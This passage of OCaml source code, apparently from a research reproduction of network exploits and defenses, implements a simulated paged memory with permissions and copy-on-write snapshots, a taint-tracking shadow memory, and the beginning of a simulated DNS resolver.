val pp_summary : Format.formatter -> t -> unit
