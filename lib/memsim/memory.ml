type perm = { read : bool; write : bool; execute : bool }

let r = { read = true; write = false; execute = false }
let rw = { read = true; write = true; execute = false }
let rx = { read = true; write = false; execute = true }
let rwx = { read = true; write = true; execute = true }
let none = { read = false; write = false; execute = false }

let pp_perm ppf p =
  Format.fprintf ppf "%c%c%c"
    (if p.read then 'r' else '-')
    (if p.write then 'w' else '-')
    (if p.execute then 'x' else '-')

type fault_kind = Unmapped | Perm_read | Perm_write | Perm_exec
type fault = { addr : int; kind : fault_kind; context : string }

exception Fault of fault

let fault_kind_to_string = function
  | Unmapped -> "unmapped"
  | Perm_read -> "read-protected"
  | Perm_write -> "write-protected"
  | Perm_exec -> "exec-protected (NX)"

let pp_fault ppf f =
  Format.fprintf ppf "memory fault at %a: %s (%s)" Word.pp f.addr
    (fault_kind_to_string f.kind)
    f.context

let fault_to_string f = Format.asprintf "%a" pp_fault f

type region = { name : string; base : int; size : int; perm : perm }

(* [gen] is the page's write generation.  Every mutation of the page's
   bytes — and every permission change — stores a fresh value drawn from
   the address space's monotonic counter, so a generation value is never
   reused across page lifetimes or writes.  Decoded-instruction caches
   ({!Icache}) validate against it.

   The generation lives in a heap cell ([int ref]) rather than a mutable
   field so {!gen_ref} can hand the cell itself to a decode cache: entry
   validation is then a direct load + compare with no call back into this
   module — it runs once per interpreted instruction.

   [frozen] is the copy-on-write bit: while set, [data] may be shared
   with one or more {!snapshot} frames and must not be mutated in place.
   Every byte-store path calls {!unshare} first, which swaps in a private
   copy of the buffer and clears the bit.  The invariant the snapshot
   layer relies on: a [Bytes.t] reachable from a snapshot frame is never
   written again. *)
type page = {
  mutable pperm : perm;
  mutable data : Bytes.t;
  gen : int ref;
  mutable frozen : bool;
}

let page_size = 4096
let page_bits = 12
let offset_mask = page_size - 1

type t = {
  pages : (int, page) Hashtbl.t;
  mutable regs : region list;
  mutable gen_counter : int;
  (* Last-hit page per access kind: the interpreters touch the same text /
     stack / data page over and over, so a single-entry cache turns the
     per-byte Hashtbl probe into an int compare + field load.  [gq_*] backs
     {!page_gen} (the decode-cache validation path).  Invalidated on
     [unmap]. *)
  mutable rd_idx : int;
  mutable rd_pg : page;
  mutable wr_idx : int;
  mutable wr_pg : page;
  mutable fx_idx : int;
  mutable fx_pg : page;
  mutable gq_idx : int;
  mutable gq_pg : page;
  (* Telemetry sink, [None] in normal operation.  Faults and mapping
     changes are cold paths, so the option check never touches the
     per-byte accessors' hit paths. *)
  mutable trace : Telemetry.Trace.t option;
}

let null_page = { pperm = none; data = Bytes.empty; gen = ref 0; frozen = false }

(* Cold path of the copy-on-write protocol: give the page a private copy
   of its buffer before the first mutation after a snapshot.  Kept
   out-of-line so the store hot paths pay only the [frozen] test. *)
let[@inline never] unshare p =
  p.data <- Bytes.copy p.data;
  p.frozen <- false

let create () =
  {
    pages = Hashtbl.create 64;
    regs = [];
    gen_counter = 0;
    rd_idx = -1;
    rd_pg = null_page;
    wr_idx = -1;
    wr_pg = null_page;
    fx_idx = -1;
    fx_pg = null_page;
    gq_idx = -1;
    gq_pg = null_page;
    trace = None;
  }

let set_trace t tr = t.trace <- tr
let trace t = t.trace

let page_index addr = addr lsr page_bits

let fault t addr kind context =
  (match t.trace with
  | None -> ()
  | Some tr ->
      Telemetry.Trace.emit tr ~cat:"mem" ~track:"memory" "fault"
        ~args:
          [
            ("addr", Telemetry.Trace.I addr);
            ("kind", Telemetry.Trace.S (fault_kind_to_string kind));
            ("context", Telemetry.Trace.S context);
          ]);
  raise (Fault { addr; kind; context })

let fresh_gen t =
  t.gen_counter <- t.gen_counter + 1;
  t.gen_counter

let invalidate_page_caches t =
  t.rd_idx <- -1;
  t.rd_pg <- null_page;
  t.wr_idx <- -1;
  t.wr_pg <- null_page;
  t.fx_idx <- -1;
  t.fx_pg <- null_page;
  t.gq_idx <- -1;
  t.gq_pg <- null_page

let page_range ~base ~size =
  let first = page_index base and last = page_index (base + size - 1) in
  (first, last)

let trace_region t name reg =
  match t.trace with
  | None -> ()
  | Some tr ->
      Telemetry.Trace.emit tr ~cat:"mem" ~track:"memory" name
        ~args:
          [
            ("name", Telemetry.Trace.S reg.name);
            ("base", Telemetry.Trace.I reg.base);
            ("size", Telemetry.Trace.I reg.size);
            ("perm", Telemetry.Trace.S (Format.asprintf "%a" pp_perm reg.perm));
          ]

let map t ~base ~size ~perm ~name =
  if size <= 0 then invalid_arg "Memory.map: size must be positive";
  if base < 0 || base + size > 0x1_0000_0000 then
    invalid_arg "Memory.map: region outside 32-bit address space";
  let first, last = page_range ~base ~size in
  for i = first to last do
    if Hashtbl.mem t.pages i then
      invalid_arg
        (Printf.sprintf "Memory.map: %s overlaps existing mapping at page %s"
           name
           (Word.to_hex (i lsl page_bits)))
  done;
  for i = first to last do
    Hashtbl.replace t.pages i
      {
        pperm = perm;
        data = Bytes.make page_size '\000';
        gen = ref (fresh_gen t);
        frozen = false;
      }
  done;
  let reg = { name; base; size; perm } in
  t.regs <- reg :: t.regs;
  trace_region t "map" reg

let region_at_base t base context =
  match List.find_opt (fun reg -> reg.base = base) t.regs with
  | Some reg -> reg
  | None ->
      invalid_arg
        (Printf.sprintf "Memory.%s: no region mapped at %s" context
           (Word.to_hex base))

let unmap t ~base =
  let reg = region_at_base t base "unmap" in
  let first, last = page_range ~base ~size:reg.size in
  for i = first to last do
    (match Hashtbl.find_opt t.pages i with
    (* Retire the page's generation so any decode-cache entry filled from
       it can never validate again, even if the page object leaks through
       a stale reference. *)
    | Some p -> p.gen := fresh_gen t
    | None -> ());
    Hashtbl.remove t.pages i
  done;
  t.regs <- List.filter (fun reg -> reg.base <> base) t.regs;
  invalidate_page_caches t;
  trace_region t "unmap" reg

let set_perm t ~base perm =
  let reg = region_at_base t base "set_perm" in
  let first, last = page_range ~base ~size:reg.size in
  for i = first to last do
    match Hashtbl.find_opt t.pages i with
    | Some p ->
        p.pperm <- perm;
        (* Permission changes must also invalidate decode caches: a cached
           instruction was admitted under the old execute bit. *)
        p.gen := fresh_gen t
    | None -> ()
  done;
  t.regs <-
    List.map
      (fun r0 -> if r0.base = base then { r0 with perm } else r0)
      t.regs;
  trace_region t "set_perm" { reg with perm }

let regions t = List.sort (fun a b -> compare a.base b.base) t.regs

let region_at t addr =
  List.find_opt (fun reg -> addr >= reg.base && addr < reg.base + reg.size) t.regs

let find_region t name =
  match List.find_opt (fun reg -> reg.name = name) t.regs with
  | Some reg -> reg
  | None -> invalid_arg ("Memory.find_region: no region named " ^ name)

let is_mapped t addr = Hashtbl.mem t.pages (page_index addr)

(* Core byte access.  Each access kind keeps a one-entry cache of the last
   page it hit; the [context] string ends up in the fault record for
   diagnostics.  [addr] must already be masked to 32 bits. *)

let read_page t addr =
  let idx = addr lsr page_bits in
  if idx = t.rd_idx then t.rd_pg
  else
    match Hashtbl.find_opt t.pages idx with
    | Some p ->
        t.rd_idx <- idx;
        t.rd_pg <- p;
        p
    | None -> fault t addr Unmapped "read"

let write_page t addr context =
  let idx = addr lsr page_bits in
  if idx = t.wr_idx then t.wr_pg
  else
    match Hashtbl.find_opt t.pages idx with
    | Some p ->
        t.wr_idx <- idx;
        t.wr_pg <- p;
        p
    | None -> fault t addr Unmapped context

let fetch_page t addr =
  let idx = addr lsr page_bits in
  if idx = t.fx_idx then t.fx_pg
  else
    match Hashtbl.find_opt t.pages idx with
    | Some p ->
        t.fx_idx <- idx;
        t.fx_pg <- p;
        p
    | None -> fault t addr Unmapped "fetch"

let page_gen t addr =
  let addr = Word.of_int addr in
  let idx = addr lsr page_bits in
  if idx = t.gq_idx then !(t.gq_pg.gen)
  else
    match Hashtbl.find_opt t.pages idx with
    | Some p ->
        t.gq_idx <- idx;
        t.gq_pg <- p;
        !(p.gen)
    | None -> -1

(* The page's generation cell itself, for decode caches to validate
   against without a call: [map] creates a fresh cell per page and
   [unmap] retires the old cell's value, so a cell+snapshot pair can
   never spuriously re-validate across a remap. *)
let gen_ref t addr =
  let addr = Word.of_int addr in
  let idx = addr lsr page_bits in
  if idx = t.gq_idx then t.gq_pg.gen
  else
    match Hashtbl.find_opt t.pages idx with
    | Some p ->
        t.gq_idx <- idx;
        t.gq_pg <- p;
        p.gen
    | None -> fault t addr Unmapped "gen_ref"

let read_u8 t addr =
  let addr = Word.of_int addr in
  let p = read_page t addr in
  if not p.pperm.read then fault t addr Perm_read "read";
  Char.code (Bytes.unsafe_get p.data (addr land offset_mask))

let write_u8 t addr v =
  let addr = Word.of_int addr in
  let p = write_page t addr "write" in
  if not p.pperm.write then fault t addr Perm_write "write";
  if p.frozen then unshare p;
  p.gen := fresh_gen t;
  Bytes.unsafe_set p.data (addr land offset_mask) (Char.unsafe_chr (v land 0xFF))

let fetch_u8 t addr =
  let addr = Word.of_int addr in
  let p = fetch_page t addr in
  if not p.pperm.execute then fault t addr Perm_exec "fetch";
  Char.code (Bytes.unsafe_get p.data (addr land offset_mask))

(* Multi-byte reads bind bytes in ascending order: the lowest offending
   address must be the one reported in a fault.  The aligned-within-a-page
   common case reads straight out of the page buffer. *)

let read_u16 t addr =
  let b0 = read_u8 t addr in
  let b1 = read_u8 t (addr + 1) in
  b0 lor (b1 lsl 8)

let read_u32 t addr =
  let a = Word.of_int addr in
  let off = a land offset_mask in
  if off <= page_size - 4 then begin
    let p = read_page t a in
    if not p.pperm.read then fault t a Perm_read "read";
    let d = p.data in
    Char.code (Bytes.unsafe_get d off)
    lor (Char.code (Bytes.unsafe_get d (off + 1)) lsl 8)
    lor (Char.code (Bytes.unsafe_get d (off + 2)) lsl 16)
    lor (Char.code (Bytes.unsafe_get d (off + 3)) lsl 24)
  end
  else begin
    let b0 = read_u8 t addr in
    let b1 = read_u8 t (addr + 1) in
    let b2 = read_u8 t (addr + 2) in
    let b3 = read_u8 t (addr + 3) in
    b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24)
  end

(* Multi-byte writes are not torn: every page the span touches is
   validated (mapped + writable) before any byte is committed, so a write
   that faults leaves memory untouched.  Validation walks the span in
   ascending order, one probe per page, which also makes the reported
   fault address the lowest offending one (the first byte of the span
   that lands in the bad page). *)
let check_write_span t addr len context =
  let i = ref 0 in
  while !i < len do
    let a = Word.of_int (addr + !i) in
    let idx = a lsr page_bits in
    (if idx = t.wr_idx then begin
       if not t.wr_pg.pperm.write then fault t a Perm_write context
     end
     else
       match Hashtbl.find_opt t.pages idx with
       | Some p ->
           if not p.pperm.write then fault t a Perm_write context;
           t.wr_idx <- idx;
           t.wr_pg <- p
       | None -> fault t a Unmapped context);
    i := !i + (page_size - (a land offset_mask))
  done

let write_u16 t addr v =
  check_write_span t addr 2 "write";
  write_u8 t addr (v land 0xFF);
  write_u8 t (addr + 1) ((v lsr 8) land 0xFF)

let write_u32 t addr v =
  let a = Word.of_int addr in
  let off = a land offset_mask in
  if off <= page_size - 4 then begin
    let p = write_page t a "write" in
    if not p.pperm.write then fault t a Perm_write "write";
    if p.frozen then unshare p;
    p.gen := fresh_gen t;
    let d = p.data in
    Bytes.unsafe_set d off (Char.unsafe_chr (v land 0xFF));
    Bytes.unsafe_set d (off + 1) (Char.unsafe_chr ((v lsr 8) land 0xFF));
    Bytes.unsafe_set d (off + 2) (Char.unsafe_chr ((v lsr 16) land 0xFF));
    Bytes.unsafe_set d (off + 3) (Char.unsafe_chr ((v lsr 24) land 0xFF))
  end
  else begin
    check_write_span t addr 4 "write";
    write_u8 t addr (v land 0xFF);
    write_u8 t (addr + 1) ((v lsr 8) land 0xFF);
    write_u8 t (addr + 2) ((v lsr 16) land 0xFF);
    write_u8 t (addr + 3) ((v lsr 24) land 0xFF)
  end

let fetch_u32 t addr =
  let a = Word.of_int addr in
  let off = a land offset_mask in
  if off <= page_size - 4 then begin
    let p = fetch_page t a in
    if not p.pperm.execute then fault t a Perm_exec "fetch";
    let d = p.data in
    Char.code (Bytes.unsafe_get d off)
    lor (Char.code (Bytes.unsafe_get d (off + 1)) lsl 8)
    lor (Char.code (Bytes.unsafe_get d (off + 2)) lsl 16)
    lor (Char.code (Bytes.unsafe_get d (off + 3)) lsl 24)
  end
  else begin
    let b0 = fetch_u8 t addr in
    let b1 = fetch_u8 t (addr + 1) in
    let b2 = fetch_u8 t (addr + 2) in
    let b3 = fetch_u8 t (addr + 3) in
    b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24)
  end

let read_bytes t addr len =
  String.init len (fun i -> Char.chr (read_u8 t (addr + i)))

let write_bytes t addr s =
  let len = String.length s in
  if len > 0 then begin
    check_write_span t addr len "write";
    (* Committed page-at-a-time: one generation bump and one blit per
       touched page. *)
    let i = ref 0 in
    while !i < len do
      let a = Word.of_int (addr + !i) in
      let off = a land offset_mask in
      let chunk = min (len - !i) (page_size - off) in
      let p = write_page t a "write" in
      if p.frozen then unshare p;
      p.gen := fresh_gen t;
      Bytes.blit_string s !i p.data off chunk;
      i := !i + chunk
    done
  end

let read_cstring t ?(max = 4096) addr =
  let buf = Buffer.create 16 in
  let rec loop i =
    if i >= max then Buffer.contents buf
    else
      match read_u8 t (addr + i) with
      | 0 -> Buffer.contents buf
      | c ->
          Buffer.add_char buf (Char.chr c);
          loop (i + 1)
  in
  loop 0

let peek_u8 t addr =
  let addr = Word.of_int addr in
  let idx = addr lsr page_bits in
  let p =
    if idx = t.rd_idx then t.rd_pg
    else
      match Hashtbl.find_opt t.pages idx with
      | Some p ->
          t.rd_idx <- idx;
          t.rd_pg <- p;
          p
      | None -> fault t addr Unmapped "peek"
  in
  Char.code (Bytes.unsafe_get p.data (addr land offset_mask))

let peek_bytes t addr len = String.init len (fun i -> Char.chr (peek_u8 t (addr + i)))

(* Like {!write_bytes}, pokes are not torn: all pages are checked mapped
   before any byte lands (permissions are deliberately ignored — this is
   the loader populating read-only segments). *)
let poke_bytes t addr s =
  let len = String.length s in
  if len > 0 then begin
    let i = ref 0 in
    while !i < len do
      let a = Word.of_int (addr + !i) in
      if not (Hashtbl.mem t.pages (a lsr page_bits)) then
        fault t a Unmapped "poke";
      i := !i + (page_size - (a land offset_mask))
    done;
    let i = ref 0 in
    while !i < len do
      let a = Word.of_int (addr + !i) in
      let off = a land offset_mask in
      let chunk = min (len - !i) (page_size - off) in
      let p = write_page t a "poke" in
      if p.frozen then unshare p;
      p.gen := fresh_gen t;
      Bytes.blit_string s !i p.data off chunk;
      i := !i + chunk
    done
  end

(* {1 Copy-on-write snapshots}

   A snapshot is an immutable array of per-page frames, each pinning the
   page's buffer ([Bytes.t], shared — never copied at snapshot time), its
   permissions, and the generation the page carried when the snapshot was
   taken.  Taking a snapshot freezes every live page; the store paths
   unshare on the first subsequent write, so snapshot cost is O(pages)
   with zero byte copying, and restore cost is proportional to the number
   of pages actually dirtied since.

   Restore never rewinds [gen_counter]: a page whose bytes are swapped
   back to snapshot contents gets a {e fresh} generation, which is exactly
   what keeps decode caches ({!Icache}) coherent — their entries were
   filled against the dirty bytes and must re-validate.  Untouched pages
   (generation still equal to the frame's) keep their generation, so
   decode-cache entries for never-written text pages survive fork/restore
   cycles; that is the perf win that makes snapshot fuzzing cheap. *)

type frame = {
  f_idx : int;
  f_page : page;  (* identity of the record frozen at snapshot time *)
  f_data : Bytes.t;
  f_perm : perm;
  f_gen : int;
}

type snapshot = { s_frames : frame array; s_regs : region list }

let snapshot t =
  let frames =
    Hashtbl.fold
      (fun idx p acc ->
        p.frozen <- true;
        { f_idx = idx; f_page = p; f_data = p.data; f_perm = p.pperm; f_gen = !(p.gen) }
        :: acc)
      t.pages []
  in
  let arr = Array.of_list frames in
  Array.sort (fun a b -> compare a.f_idx b.f_idx) arr;
  (match t.trace with
  | None -> ()
  | Some tr ->
      Telemetry.Trace.emit tr ~cat:"mem" ~track:"memory" "snapshot"
        ~args:[ ("pages", Telemetry.Trace.I (Array.length arr)) ]);
  { s_frames = arr; s_regs = t.regs }

let snapshot_pages s = Array.length s.s_frames

let restore t snap =
  (* Drop pages mapped after the snapshot was taken, retiring their
     generations so stale decode-cache entries can never re-validate.
     [map]/[unmap]/[set_perm] all replace the region list, so physical
     equality with the snapshot's list proves the page table's shape is
     unchanged and the scan can be skipped — the common case in a
     restore-per-exec fuzzing loop. *)
  (if t.regs != snap.s_regs then begin
     let keep = Hashtbl.create (Array.length snap.s_frames) in
     Array.iter (fun f -> Hashtbl.replace keep f.f_idx ()) snap.s_frames;
     let stale =
       Hashtbl.fold
         (fun idx p acc -> if Hashtbl.mem keep idx then acc else (idx, p) :: acc)
         t.pages []
     in
     List.iter
       (fun (idx, p) ->
         p.gen := fresh_gen t;
         Hashtbl.remove t.pages idx)
       (List.sort compare stale)
   end);
  let dirty = ref 0 in
  Array.iter
    (fun f ->
      match Hashtbl.find_opt t.pages f.f_idx with
      | Some p when p == f.f_page && !(p.gen) = f.f_gen ->
          (* Untouched since the snapshot: nothing to do, and crucially
             the generation is preserved so decode-cache entries filled
             from this page stay valid across the restore. *)
          ()
      | Some p when p.frozen && p.data == f.f_data && p.pperm = f.f_perm ->
          (* Already carrying the snapshot's buffer (e.g. restored before
             and not written since).  Bytes are identical by the frozen
             invariant; skip the gen bump. *)
          ()
      | Some p ->
          incr dirty;
          p.data <- f.f_data;
          p.frozen <- true;
          p.pperm <- f.f_perm;
          p.gen := fresh_gen t
      | None ->
          incr dirty;
          Hashtbl.replace t.pages f.f_idx
            {
              pperm = f.f_perm;
              data = f.f_data;
              gen = ref (fresh_gen t);
              frozen = true;
            })
    snap.s_frames;
  t.regs <- snap.s_regs;
  invalidate_page_caches t;
  match t.trace with
  | None -> ()
  | Some tr ->
      Telemetry.Trace.emit tr ~cat:"mem" ~track:"memory" "restore"
        ~args:
          [
            ("pages", Telemetry.Trace.I (Array.length snap.s_frames));
            ("dirty", Telemetry.Trace.I !dirty);
          ]

let fork snap =
  let t = create () in
  Array.iter
    (fun f ->
      Hashtbl.replace t.pages f.f_idx
        { pperm = f.f_perm; data = f.f_data; gen = ref (fresh_gen t); frozen = true })
    snap.s_frames;
  t.regs <- snap.s_regs;
  t

let hexdump t ~base ~len =
  let buf = Buffer.create (len * 4) in
  let lines = (len + 15) / 16 in
  for line = 0 to lines - 1 do
    let addr = base + (line * 16) in
    Buffer.add_string buf (Printf.sprintf "%08x  " addr);
    for i = 0 to 15 do
      if (line * 16) + i < len then
        Buffer.add_string buf (Printf.sprintf "%02x " (peek_u8 t (addr + i)))
      else Buffer.add_string buf "   ";
      if i = 7 then Buffer.add_char buf ' '
    done;
    Buffer.add_string buf " |";
    for i = 0 to 15 do
      if (line * 16) + i < len then begin
        let c = peek_u8 t (addr + i) in
        Buffer.add_char buf (if c >= 0x20 && c < 0x7F then Char.chr c else '.')
      end
    done;
    Buffer.add_string buf "|\n"
  done;
  Buffer.contents buf

let pp_layout ppf t =
  List.iter
    (fun reg ->
      Format.fprintf ppf "%a-%a %a %s@." Word.pp reg.base Word.pp
        (reg.base + reg.size) pp_perm reg.perm reg.name)
    (regions t)
