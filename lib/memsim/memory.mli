(** Sparse, paged, byte-addressable 32-bit memory with per-page permissions.

    This is the substrate every simulated machine runs on.  Memory is mapped
    in named regions ({i segments}), each carrying read/write/execute
    permissions.  Accessing unmapped memory, or violating a permission,
    raises {!Fault} — exactly the signal a real MMU delivers as SIGSEGV,
    and the mechanism by which both the paper's denial-of-service outcome
    and the W⊕X defense are realised in this reproduction. *)

type perm = { read : bool; write : bool; execute : bool }

val r : perm
val rw : perm
val rx : perm
val rwx : perm
val none : perm

val pp_perm : Format.formatter -> perm -> unit
(** Renders like [r-x]. *)

type fault_kind =
  | Unmapped  (** access to an address with no backing page *)
  | Perm_read  (** read from a non-readable page *)
  | Perm_write  (** write to a non-writable page *)
  | Perm_exec  (** instruction fetch from a non-executable page (NX / W⊕X) *)

type fault = { addr : int; kind : fault_kind; context : string }

exception Fault of fault

val pp_fault : Format.formatter -> fault -> unit
val fault_to_string : fault -> string

type region = { name : string; base : int; size : int; perm : perm }

type t

val create : unit -> t
(** A fresh, fully unmapped address space. *)

val set_trace : t -> Telemetry.Trace.t option -> unit
(** Attach (or detach with [None]) a telemetry sink.  With a sink
    attached, faults and mapping changes ({!map}, {!unmap},
    {!set_perm}) emit events under category ["mem"].  These are all
    cold paths: the per-byte accessors' hit paths never consult the
    sink, so a detached trace costs nothing. *)

val trace : t -> Telemetry.Trace.t option

val page_size : int
(** 4096, as on the paper's targets. *)

val page_bits : int
(** [log2 page_size] = 12. *)

val page_gen : t -> int -> int
(** Write generation of the page containing the address, or [-1] if no
    page is mapped there.  A page's generation changes on every byte
    store ({!write_u8}, {!write_u16}, {!write_u32}, {!write_bytes},
    {!poke_bytes}) and on every permission change ({!set_perm}), and
    generation values are never reused across page lifetimes (a page
    remapped after {!unmap} starts at a fresh value).  This is the
    invalidation signal for decoded-instruction caches ({!Icache}): a
    cached decode is valid iff the generations it was filled under still
    match. *)

val gen_ref : t -> int -> int ref
(** The generation cell of the page containing the address (the cell
    {!page_gen} reads).  Decode caches snapshot [!(gen_ref t addr)] at
    fill time and validate an entry with a direct load + compare — no
    call back into this module on the hit path.  Each page lifetime has
    its own cell, and {!unmap} retires the cell's value, so a
    (cell, snapshot) pair can never spuriously re-validate across a
    remap.  Raises {!Fault} ([Unmapped]) if no page is mapped there. *)

val map : t -> base:int -> size:int -> perm:perm -> name:string -> unit
(** Map a zero-filled region.  [base] and [size] are rounded outward to page
    boundaries for permission purposes, but the region record keeps the
    exact values.  Overlapping an existing mapping raises
    [Invalid_argument]. *)

val unmap : t -> base:int -> unit
(** Remove the region whose [base] matches exactly.  Raises
    [Invalid_argument] naming the base if no such region exists. *)

val set_perm : t -> base:int -> perm -> unit
(** Change the permissions of the region starting at [base] (an [mprotect]
    analogue).  Raises [Invalid_argument] naming the base if no region
    starts there. *)

val regions : t -> region list
(** All mapped regions, sorted by base address. *)

val region_at : t -> int -> region option
(** The region containing the given address, if any. *)

val find_region : t -> string -> region
(** Region by name.  Raises [Invalid_argument] naming the region if no
    region carries that name. *)

val is_mapped : t -> int -> bool

(** {1 Typed access}

    All multi-byte accessors are little-endian, as on both x86 and the
    (little-endian-configured) ARMv7 targets of the paper. *)

val read_u8 : t -> int -> int
val read_u16 : t -> int -> int
val read_u32 : t -> int -> int
val write_u8 : t -> int -> int -> unit

val write_u16 : t -> int -> int -> unit
(** Multi-byte writes are atomic with respect to faults: every page the
    span touches is validated (mapped and writable) before any byte is
    committed, so a page-spanning write into a bad page leaves no partial
    write behind.  The fault reports the lowest offending address. *)

val write_u32 : t -> int -> int -> unit

val fetch_u8 : t -> int -> int
(** Like {!read_u8} but requires execute permission — the instruction-fetch
    path. *)

val fetch_u32 : t -> int -> int

val read_bytes : t -> int -> int -> string
(** [read_bytes m addr len] — raises {!Fault} on the first offending byte. *)

val write_bytes : t -> int -> string -> unit
(** Atomic like {!write_u32}: all touched pages are validated before any
    byte is committed. *)

val read_cstring : t -> ?max:int -> int -> string
(** Read a NUL-terminated string (at most [max] bytes, default 4096). *)

val peek_bytes : t -> int -> int -> string
(** Permission-blind read for debugger-style inspection ([gdb] analogue).
    Still faults on unmapped pages. *)

val poke_bytes : t -> int -> string -> unit
(** Permission-blind write, used by the loader to populate read-only
    segments.  Atomic with respect to unmapped pages (all pages checked
    before any byte lands) and bumps the write generation of every
    touched page, like {!write_bytes}. *)

(** {1 Copy-on-write snapshots}

    A {!snapshot} captures the full machine memory — page contents,
    permissions, region table — in O(pages) time with {e zero} byte
    copying: every live page is frozen and its buffer shared with the
    snapshot.  The store paths transparently unshare (copy) a frozen
    page on the first subsequent write, so the mutator pays one
    page-copy per dirtied page and untouched pages cost nothing.

    Generation-counter interaction (the {!Icache} contract): {!restore}
    never rewinds the generation counter.  Pages dirtied since the
    snapshot get a {e fresh} generation when their bytes are swapped
    back, forcing decode caches to re-validate; pages never written keep
    their generation, so cached decodes of text pages survive arbitrarily
    many fork/restore cycles.  Multiple snapshots of the same memory, and
    restores in any order, are supported. *)

type snapshot

val snapshot : t -> snapshot
(** Capture current memory state.  Freezes all live pages (subsequent
    writes to this memory copy-on-write). *)

val restore : t -> snapshot -> unit
(** Rewind memory to the snapshot: page contents, permissions, and the
    region table.  Cost is proportional to the pages dirtied, mapped, or
    unmapped since the snapshot was taken.  The snapshot remains valid
    and may be restored again. *)

val fork : snapshot -> t
(** A fresh, independent memory whose initial state is the snapshot.
    Shares page buffers copy-on-write with the snapshot (and with any
    other fork of it); no trace sink is attached.  Generations in the
    fork are fresh — decode caches must not be carried over from the
    parent. *)

val snapshot_pages : snapshot -> int
(** Number of pages the snapshot pins. *)

val hexdump : t -> base:int -> len:int -> string
(** Conventional 16-bytes-per-line hex + ASCII dump (inspection only). *)

val pp_layout : Format.formatter -> t -> unit
(** One line per region: base, end, perms, name. *)
