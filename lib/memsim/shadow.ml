type label = int

let clean = 0

let make ~src ~offset =
  if offset < 0 || offset > 0xFFFE then
    invalid_arg (Printf.sprintf "Shadow.make: offset %d out of range" offset);
  if src < 0 then invalid_arg (Printf.sprintf "Shadow.make: negative src %d" src);
  (src lsl 16) lor (offset + 1)

let source_of label = label lsr 16
let offset_of label = (label land 0xFFFF) - 1
let join a b = if a <> 0 then a else b

type t = { pages : (int, int array) Hashtbl.t }

let create () = { pages = Hashtbl.create 64 }

let page_of addr = addr lsr Memory.page_bits
let offset_in_page addr = addr land (Memory.page_size - 1)

let get t addr =
  match Hashtbl.find_opt t.pages (page_of addr) with
  | None -> 0
  | Some page -> page.(offset_in_page addr)

let set t addr label =
  match Hashtbl.find_opt t.pages (page_of addr) with
  | Some page -> page.(offset_in_page addr) <- label
  | None ->
      if label <> 0 then begin
        let page = Array.make Memory.page_size 0 in
        page.(offset_in_page addr) <- label;
        Hashtbl.replace t.pages (page_of addr) page
      end

let clear_range t addr ~len =
  for i = 0 to len - 1 do
    set t (Word.add addr i) 0
  done

let clear t = Hashtbl.reset t.pages

(* Snapshots deep-copy the sparse page set.  Shadow pages are few (only
   pages that ever carried taint) and restore is exact: pages created
   after the snapshot are dropped, not just zeroed. *)
type snapshot = (int * int array) list  (* sorted by page index *)

let snapshot t =
  let pages =
    Hashtbl.fold (fun idx page acc -> (idx, Array.copy page) :: acc) t.pages []
  in
  List.sort (fun (a, _) (b, _) -> compare a b) pages

let restore t snap =
  Hashtbl.reset t.pages;
  List.iter (fun (idx, page) -> Hashtbl.replace t.pages idx (Array.copy page)) snap

let tainted t =
  Hashtbl.fold
    (fun _ page acc ->
      Array.fold_left (fun n l -> if l <> 0 then n + 1 else n) acc page)
    t.pages 0
