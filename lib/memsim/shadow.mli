(** Byte-granular shadow memory for taint tracking.

    One taint label per guest byte, stored in sparse per-page arrays that
    mirror {!Memory}'s page layout.  A label packs a provenance source id
    and a byte offset within that source, so a tainted byte found anywhere
    in the guest can be traced back to the exact wire byte it came from.

    The shadow is a pure side table: it never touches guest memory and
    guest memory never touches it, which is what lets the sanitizer be a
    strict observer of the interpreters. *)

type label = int
(** [0] is clean.  A non-zero label is [(src lsl 16) lor (offset + 1)]:
    16 bits of source offset (so sources up to 65535 bytes — far above the
    4096-byte UDP ceiling) and the provenance id above them. *)

val clean : label

val make : src:int -> offset:int -> label
(** [make ~src ~offset] builds the label for byte [offset] of source
    [src].  Raises [Invalid_argument] if [offset] is outside
    [0, 0xFFFE] or [src] is negative. *)

val source_of : label -> int
(** Provenance id of a non-zero label. *)

val offset_of : label -> int
(** Byte offset within the source of a non-zero label. *)

val join : label -> label -> label
(** Label of a value derived from two inputs.  Keeps the first non-zero
    label (lowest-offset operand wins), which preserves exact provenance
    through the byte-copy loops the exploits flow through. *)

type t
(** A sparse shadow map over the full 32-bit guest address space. *)

val create : unit -> t

val get : t -> int -> label
(** [get t addr] — label of guest byte [addr]; [clean] if never set. *)

val set : t -> int -> label -> unit
(** [set t addr label].  Setting [clean] on an untouched page allocates
    nothing. *)

val clear_range : t -> int -> len:int -> unit
(** Mark [len] bytes from [addr] clean. *)

val clear : t -> unit
(** Drop every label (all pages). *)

val tainted : t -> int
(** Number of bytes currently carrying a non-zero label. *)

type snapshot
(** Deep copy of the label state, independent of later mutation. *)

val snapshot : t -> snapshot

val restore : t -> snapshot -> unit
(** Rewind to exactly the snapshot's labels: pages tainted since the
    snapshot are dropped, not merely zeroed.  The snapshot remains valid
    and may be restored again. *)
