let reply ctx dgram response =
  World.send ctx.World.world ~from:ctx.World.self ~sport:53
    ~dst:dgram.World.src ~dport:dgram.World.sport response

let zone_ttl = 300
let negative_ttl = 60

(* The resolver's answer cache runs on the simulation clock (µs → s). *)
let now_s ctx = Sim.now (World.sim ctx.World.world) / 1_000_000

let resolver ?(cnames = []) ?cache _world host ~zone =
  (* Per-resolver reusable codec state: queries are validated through the
     zero-copy view and responses are encoded into the arena, so the
     per-packet cost of a busy resolver is the response payload string
     and nothing else. *)
  let view = Dns.Wire.create_view () in
  let arena = Dns.Wire.arena ~capacity:256 () in
  World.on_udp host ~port:53 (fun ctx dgram ->
      let payload = dgram.World.payload in
      match Dns.Wire.parse view payload with
      | Error _ -> ()
      | Ok () -> (
          match Dns.Wire.qdcount view with
          | 1 ->
              let q =
                match Dns.Wire.name_labels payload (Dns.Wire.question_name view 0) with
                | Error _ -> assert false (* parse validated the name *)
                | Ok (qname, _) ->
                    {
                      Dns.Packet.qname;
                      qtype =
                        Dns.Packet.qtype_of_code
                          (Dns.Wire.question_qtype view 0);
                    }
              in
              let query =
                {
                  Dns.Packet.header =
                    {
                      Dns.Packet.id = Dns.Wire.id view;
                      qr = Dns.Wire.qr view;
                      opcode = Dns.Wire.opcode view;
                      aa = Dns.Wire.aa view;
                      tc = Dns.Wire.tc view;
                      rd = Dns.Wire.rd view;
                      ra = Dns.Wire.ra view;
